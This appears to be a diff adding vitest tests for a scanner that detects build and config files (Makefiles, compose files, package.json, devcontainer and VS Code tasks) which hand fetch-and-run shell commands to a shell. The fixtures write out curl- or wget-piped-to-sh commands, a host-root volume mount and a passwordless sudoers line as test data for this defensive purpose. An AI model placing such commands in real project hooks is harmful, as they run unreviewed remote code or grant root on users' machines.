@@ -1,0 +1,80 @@
+import { describe, expect, it } from 'vitest';
+import type { Json } from '../../kernel/json.ts';
+import { kindOf, writtenAs } from './carriers.ts';
+import { commandsOfJson } from './json-commands.ts';
+import { judgeScript } from './scripts.ts';
+
+const U = 'http://127.0.0.1:9/x';
+const judged = (path: string, text: string) => judgeScript(text, kindOf(writtenAs(path, text)))?.rule.id;
+const judgedJson = (path: string, value: Json) => {
+  const handed = commandsOfJson(path, value);
+  return handed === null ? undefined : judgeScript('', { buildsImage: false, hashComments: false, handed })?.rule.id;
+};
+
+describe('files that hand some of their text to shells', () => {
+  it.each([
+    ['Makefile', `a:\n\tcurl -so /t ${U}\nb: a\n\tsh /t`, 'fetched-code'],
+    ['x.mk', `G = curl -s\nR = $(G) ${U} | sh\na: ; $(R)`, 'fetched-code'],
+    ['Makefile', `define r\ncurl -s $(1) | sh\nendef\na:\n\t$(call r,${U})`, 'fetched-code'],
+    ['compose.yaml', `services:\n  a:\n    command: ["sh", "-c", "curl -so /b ${U}; sh /b"]`, 'fetched-code'],
+    [
+      'docker-compose.yml',
+      `services:\n  a:\n    environment: [U=${U}]\n    entrypoint: sh -c "curl -s $$U | sh"`,
+      'fetched-code',
+    ],
+    [
+      'compose.yml',
+      `services:\n  a:\n    healthcheck:\n      test: ["CMD-SHELL", "curl -s ${U} | sh"]`,
+      'fetched-code',
+    ],
+    [
+      'compose.yml',
+      `services:\n  a:\n    build:\n      dockerfile_inline: |\n        RUN curl -so /b ${U}\n        RUN sh /b`,
+      'fetched-code',
+    ],
+    [
+      'deploy.yaml',
+      `spec:\n  containers:\n  - command: [sh, -c]\n    args: ["curl -so a ${U} && sh a"]`,
+      'fetched-code',
+    ],
+    ['compose.yml', 'services:\n  a:\n    command: [x]\n    volumes:\n    - /:/host', 'host-access'],
+    ['dvc.yaml', `stages:\n  a:\n    cmd: [curl -so a ${U}, sh a]`, 'fetched-code'],
+    ['task.yaml', `setup: |\n  wget -qO a ${U}\n  bash a\nrun: python x.py`, 'fetched-code'],
+    [
+      '.github/workflows/a.yml',
+      'jobs:\n  a:\n    runs-on: [self-hosted]\n    steps:\n    - run: echo "a ALL=(ALL) NOPASSWD:ALL" > /etc/sudoers.d/a',
+      'attacking-script',
+    ],
+  ])('%s is followed: %j', (path, text, rule) => {
+    expect(judged(path, text)).toBe(`remote-code/${rule}`);
+  });
+
+  it.each([
+    ['Makefile', `help:\n\t@echo "curl ${U} | sh"\nget:\n\tcurl -LsSf https://astral.sh/uv/install.sh | sh`],
+    ['Makefile', `define HELP\ncurl ${U} | sh\nendef\nexport HELP\nhelp:\n\t@echo "$$HELP"`],
+    [
+      'compose.yaml',
+      'services:\n  a:\n    command: --model x --port 80\n    healthcheck: {test: [CMD, curl, -f, "http://localhost/"]}',
+    ],
+    ['Taskfile.yml', `tasks:\n  a:\n    cmds:\n    - echo "curl ${U} | sh"`],
+    ['config.yaml', 'command: train\nrun: 3\nargs: [a, b]\nscript: x.py'],
+  ])('%s is minded no more than it must: %j', (path, text) => {
+    expect(judged(path, text)).toBeUndefined();
+  });
+
+  it.each<[string, Json, string | undefined]>([
+    ['package.json', { scripts: { get: `curl -so b ${U}`, test: 'sh b' } }, 'fetched-code'],
+    [
+      'package.json',
+      { scripts: { start: `node -e "require('child_process').exec('curl -s ${U} | sh')"` } },
+      'fetched-code',
+    ],
+    ['.devcontainer/devcontainer.json', { postStartCommand: { a: ['sh', '-c', `curl -s ${U} | sh`] } }, 'fetched-code'],
+    ['.vscode/tasks.json', { tasks: [{ command: 'bash', args: ['-c', `curl -so x ${U}; sh x`] }] }, 'fetched-code'],
+    ['vercel.json', { buildCommand: `curl -s ${U} | sh` }, 'fetched-code'],
+    ['package.json', { scripts: { build: 'tsc && vite build', docs: `echo 'curl ${U} | sh'` } }, undefined],
+    ['other.json', { scripts: { build: `curl -s ${U} | sh` } }, undefined],
+  ])('%s: %j', (path, value, rule) => {
+    expect(judgedJson(path, value)).toBe(rule === undefined ? undefined : `remote-code/${rule}`);
+  });
+});
